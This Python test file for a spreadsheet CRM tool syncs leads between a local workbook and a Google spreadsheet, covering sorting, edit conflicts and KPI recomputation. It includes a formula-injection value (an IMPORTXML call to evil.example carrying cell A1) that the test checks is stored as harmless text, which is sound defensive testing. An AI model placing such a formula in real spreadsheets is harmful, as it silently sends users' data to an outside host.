"""A working day with a Google spreadsheet, typed as commands: on the stand-in, and on request with Google itself.

    SHEETCRM_LIVE_SPREADSHEET=… GOOGLE_APPLICATION_CREDENTIALS=key.json python -m pytest -m live_google

The spreadsheet is one made for this, its title holds "sheetcrm test", and it is shared with the key's account as an
editor: **all its tabs are deleted**. About forty requests, two minutes with Google's quota.
"""

from __future__ import annotations

import json
import os
from datetime import date
from pathlib import Path

import gspread
import pytest
from gspread.utils import ValueRenderOption
from sheets_service.client import http_client
from sheets_service.server import SCOPES
from sheets_service.server import SheetsService

from sheetcrm.workbooks.google.address import require_google_id
from sheetcrm.workbooks.google.credentials import VARIABLE
from tests.sync_files.teams import LAN
from tests.sync_files.teams import edit
from tests.sync_files.teams import lead
from tests.sync_files.teams import rows
from tests.sync_files.teams import type_row
from tests.sync_google.real_ground import FIRST_ROW
from tests.sync_google.real_ground import Ground

SPREADSHEET = "SHEETCRM_LIVE_SPREADSHEET"
MADE_FOR_THIS = "sheetcrm test"
TRAP = '=IMPORTXML("http://evil.example/?"&A1,"//a")'


def a_working_day(ground: Ground) -> None:
    """Adopt, type on both sides, sync, sort, disagree, recompute: what a user would see each time."""
    said = ground.run("hub", "adopt", ground.spreadsheet.id, "--credentials", str(ground.key), "--lang", "vi")
    assert ground.spreadsheet.title in said
    assert {"leads", "opportunities", "report.kpi", "report.dashboard"} <= ground.tabs.keys()
    assert ground.charts() > 0
    ground.run("new", "lan.xlsx", "--lang", "vi")
    book = ground.folder / "lan.xlsx"
    with (ground.folder / "sheetcrm.toml").open("a", encoding="utf-8") as config:
        config.write(f'\n[[workbooks]]\nfile = "lan.xlsx"\nowner = "{LAN}"\n')

    type_row(book, **lead("Lan 1", phone="0912345678", note=TRAP))
    ground.type_row("leads", FIRST_ROW, company="Bảng 1", owner=LAN, created_on=date(2026, 11, 2), employees="25")
    ground.run("sync")
    on_google = {row["company"]: row for row in ground.rows("leads", ValueRenderOption.formula).values()}
    assert on_google["Lan 1"]["phone"].removeprefix("'") == "0912345678"
    assert on_google["Lan 1"]["note"].removeprefix("'") == TRAP
    shown = {row["company"]: row for row in ground.rows("leads").values()}
    assert shown["Lan 1"]["note"] == TRAP, "it is a text: a formula would show its result"
    in_file = {row["company"]: row for row in rows(book)}
    assert (in_file["Bảng 1"]["employees"], in_file["Lan 1"]["note"]) == (25, TRAP)
    assert in_file["Bảng 1"]["created_on"] == date(2026, 11, 2)

    ground.sort("leads", "company")
    assert "Lan 1" in ground.rows("leads")[FIRST_ROW].values()
    ground.run("sync")
    assert {row["company"]: row for row in rows(book)} == in_file

    ground.type_row("leads", FIRST_ROW, contact="sửa trên Google")
    edit(book, "Lan 1", contact="sửa trong tệp")
    ground.run("sync", code=1)
    told = ground.run("conflicts", code=1)
    assert "sửa trên Google" in told
    assert "sửa trong tệp" in told
    assert {row["company"]: row for row in rows(book)}["Lan 1"]["contact"] == "sửa trên Google"

    assert ground.run("recompute", f"gsheet:{ground.spreadsheet.id}")
    kpis = json.loads(
        ground.run("kpi", f"gsheet:{ground.spreadsheet.id}", "leads", "--period", "11/2026", "--format", "json")
    )
    assert kpis["currency"] == "VND"
    assert any("2" in row for row in ground.tabs["report.kpi"].get_values()), "two leads stand on the scorecard"


def test_a_working_day_on_the_stand_in(tmp_path: Path, sheets_service: SheetsService) -> None:
    key = tmp_path / "key.json"
    key.write_text(json.dumps(sheets_service.credentials("sync")), encoding="utf-8")
    file = sheets_service.new_spreadsheet("sheetcrm test")
    client = gspread.service_account(key, SCOPES, http_client(sheets_service.base))
    a_working_day(Ground(tmp_path, key, client.open_by_key(file.book.id), sheets_service.base))


@pytest.mark.live_google
def test_a_working_day_with_google_itself(tmp_path: Path) -> None:
    key, address = os.environ.get(VARIABLE), os.environ.get(SPREADSHEET)
    assert key, f"set {VARIABLE} to a service account's key file"
    assert address, f"set {SPREADSHEET} to the address of an empty spreadsheet shared with that account"
    client = gspread.service_account(key, http_client=gspread.BackOffHTTPClient)
    ground = Ground(tmp_path, Path(key).absolute(), client.open_by_key(require_google_id(address)))
    assert MADE_FOR_THIS in ground.spreadsheet.title, f'its title does not hold "{MADE_FOR_THIS}": tabs are deleted'
    ground.clear()
    a_working_day(ground)
